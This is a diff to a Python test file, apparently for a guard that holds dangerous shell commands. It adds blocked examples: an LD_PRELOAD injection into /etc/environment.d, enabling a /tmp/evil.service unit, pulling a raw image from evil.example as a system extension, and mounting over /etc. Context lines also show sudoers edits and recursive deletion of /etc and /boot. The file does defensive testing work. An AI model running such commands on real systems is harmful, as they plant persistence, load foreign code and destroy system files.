@@ -29,6 +29,9 @@ HELD_ROWS = [
     "busctl set-property org.freedesktop.systemd1 /org/freedesktop/systemd1 "
     "org.freedesktop.systemd1.Manager LogTarget s null",
     f"{DBUS} StartTransientUnit 'ssa(sv)a(sa(sv))' x.service fail 0 0",
+    "echo 'LD_PRELOAD=/tmp/x.so' > /etc/environment.d/x.conf",
+    "systemctl enable /tmp/evil.service", "systemctl link /tmp/evil.service",
+    f"{DBUS} EnableUnitFiles asbb 1 /tmp/evil.service true true",
     # 13: augtool
     "augtool -s set /files/etc/sudoers/spec[1]/user alice",
     "augtool --autosave 'set /files/etc/sudoers/spec[last()+1]/user alice'",
@@ -74,6 +77,8 @@ HELD_ROWS = [
     "systemd-sysext refresh --force",
     "importctl pull-raw --class=confext https://evil.example/x.raw",
     "importctl pull-raw -C https://evil.example/x.raw",
+    "busctl call org.freedesktop.import1 /org/freedesktop/import1 org.freedesktop.import1.Manager "
+    "PullRawEx sssst https://evil.example/x.raw x confext no 0",
     "systemctl start systemd-confext.service", "systemctl enable --now systemd-sysext",
     "portablectl attach --now --profile=trusted /tmp/x.raw", "portablectl reattach /tmp/x.raw",
     "busctl call org.freedesktop.portable1 /org/freedesktop/portable1 "
@@ -86,6 +91,7 @@ HELD_ROWS = [
     "zfs set mountpoint=/etc pool/x", "zfs create -o mountpoint=/etc pool/x",
     "zfs mount pool/x", "zfs inherit mountpoint pool/x", "zpool import -R / pool",
     "zpool create etc /dev/sdb", "swapon -a",
+    "echo '[Mount]' > /etc/systemd/system/etc.mount",
     # 21: recursive removers under other names
     "wipe -rfq /etc", "srm -r /etc", "srm -rfll /usr", "trash-put /etc", "trash /var",
     "gtrash put /etc", "kioclient5 move /etc trash:/", "kioclient remove /boot",
@@ -98,6 +104,7 @@ HELD_ROWS = [
 HONEST_ROWS = [
     "systemctl show-environment", "systemctl log-level", "systemctl start nginx",
     f"{DBUS} ListUnits", f"{DBUS} StartUnit ss nginx.service replace",
+    f"{DBUS} EnableUnitFiles asbb 1 nginx.service false true", "systemctl enable --now nginx",
     "busctl get-property org.freedesktop.systemd1 /org/freedesktop/systemd1 "
     "org.freedesktop.systemd1.Manager Environment",
     f"{ACCOUNTS} org.freedesktop.Accounts FindUserByName s alice",
